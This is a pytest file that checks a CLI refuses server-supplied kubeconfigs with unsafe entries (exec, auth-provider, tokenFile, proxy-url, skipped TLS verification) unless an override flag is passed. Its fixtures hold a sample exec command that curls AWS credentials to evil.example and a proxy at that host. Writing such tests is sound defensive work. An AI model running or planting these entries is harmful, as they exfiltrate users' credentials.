"""What the CLI writes of the kubeconfig a server hands out (review N11): the entries that make
kubectl run a program (`exec`, `auth-provider`), read a local file and send it (`tokenFile`),
go through another host (`proxy-url`) or skip verifying the cluster
(`insecure-skip-tls-verify: true`) are refused, one line naming them and the lease, unless the
user passes --allow-unsafe-kubeconfig. Real kubeconfig YAML, written to a temporary home."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
import yaml

from lessor.cli import kubeconfigs
from lessor.cli.errors import SERVER, CliError

LEASE = "l0123456789abcdef0123456"
CLEAN: dict[str, Any] = {
    "apiVersion": "v1",
    "kind": "Config",
    "current-context": "lease",
    "clusters": [
        {
            "name": "lease",
            "cluster": {
                "server": "https://203.0.113.7:6443",
                "certificate-authority-data": "LS0tLS1CRUdJTi==",
                "tls-server-name": "lease.example",
            },
        }
    ],
    "users": [{"name": "lease", "user": {"token": "abc.def"}}],
    "contexts": [{"name": "lease", "context": {"cluster": "lease", "user": "lease"}}],
}
EXEC = {
    "apiVersion": "client.authentication.k8s.io/v1",
    "command": "sh",
    "args": ["-c", "curl -d @$HOME/.aws/credentials https://evil.example"],
}
UNSAFE: dict[str, tuple[str, str, Any]] = {
    # the name in the message: (where, key, value)
    "users[0].user.exec": ("users", "exec", EXEC),
    "users[0].user.auth-provider": (
        "users",
        "auth-provider",
        {"name": "gcp", "config": {"cmd-path": "/tmp/x", "cmd-args": "steal"}},
    ),
    "users[0].user.tokenFile": ("users", "tokenFile", "/home/alice/.config/gcloud/token"),
    "clusters[0].cluster.proxy-url": ("clusters", "proxy-url", "http://evil.example:3128"),
    "clusters[0].cluster.insecure-skip-tls-verify": ("clusters", "insecure-skip-tls-verify", True),
}


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / ".config"))
    monkeypatch.delenv("KUBECONFIG", raising=False)
    return tmp_path


def _with(name: str) -> str:
    where, key, value = UNSAFE[name]
    document = copy.deepcopy(CLEAN)
    entry = document[where][0]["user" if where == "users" else "cluster"]
    entry[key] = value
    return yaml.safe_dump(document, sort_keys=False)


@pytest.mark.parametrize("name", sorted(UNSAFE))
def test_each_unsafe_entry_is_refused_by_write_and_merge(name: str, home: Path) -> None:
    for attempt in (
        lambda: kubeconfigs.write(LEASE, _with(name)),
        lambda: kubeconfigs.merge(LEASE, _with(name)),
    ):
        with pytest.raises(CliError) as refused:
            attempt()
        message = str(refused.value)
        assert refused.value.code == SERVER
        assert LEASE in message and name in message and "\n" not in message, message
        assert "--allow-unsafe-kubeconfig" in message, message
    assert not (home / ".kube").exists(), "nothing was written"
    assert kubeconfigs.written() == {}


def test_every_user_and_cluster_is_looked_at_and_all_findings_named(home: Path) -> None:
    document = copy.deepcopy(CLEAN)
    document["users"].append({"name": "second", "user": {"exec": EXEC}})
    document["clusters"].append({"name": "second", "cluster": {"proxy-url": "socks5://x:1"}})
    with pytest.raises(CliError) as refused:
        kubeconfigs.write(LEASE, yaml.safe_dump(document))
    assert "users[1].user.exec" in str(refused.value)
    assert "clusters[1].cluster.proxy-url" in str(refused.value)


def test_the_flag_writes_and_merges_them_as_they_are(home: Path) -> None:
    unsafe = _with("users[0].user.exec")
    path = kubeconfigs.write(LEASE, unsafe, allow_unsafe=True)
    assert path.read_text() == unsafe
    merged, context = kubeconfigs.merge(LEASE, unsafe, allow_unsafe=True)
    users = yaml.safe_load(merged.read_text())["users"]
    assert users == [{"name": context, "user": {"token": "abc.def", "exec": EXEC}}]


def test_a_clean_kubeconfig_and_a_verified_cluster_are_written(home: Path) -> None:
    document = copy.deepcopy(CLEAN)
    document["clusters"][0]["cluster"]["insecure-skip-tls-verify"] = False
    text = yaml.safe_dump(document)
    assert kubeconfigs.write(LEASE, text).read_text() == text
    path, context = kubeconfigs.merge(LEASE, text)
    assert context in path.read_text()


@pytest.mark.parametrize("text", ["- a list\n", "clusters: [\n", "users: [1]\n"])
def test_what_is_no_kubeconfig_is_refused(text: str) -> None:
    with pytest.raises(CliError) as refused:
        kubeconfigs.write(LEASE, text)
    assert refused.value.code == SERVER and LEASE in str(refused.value)
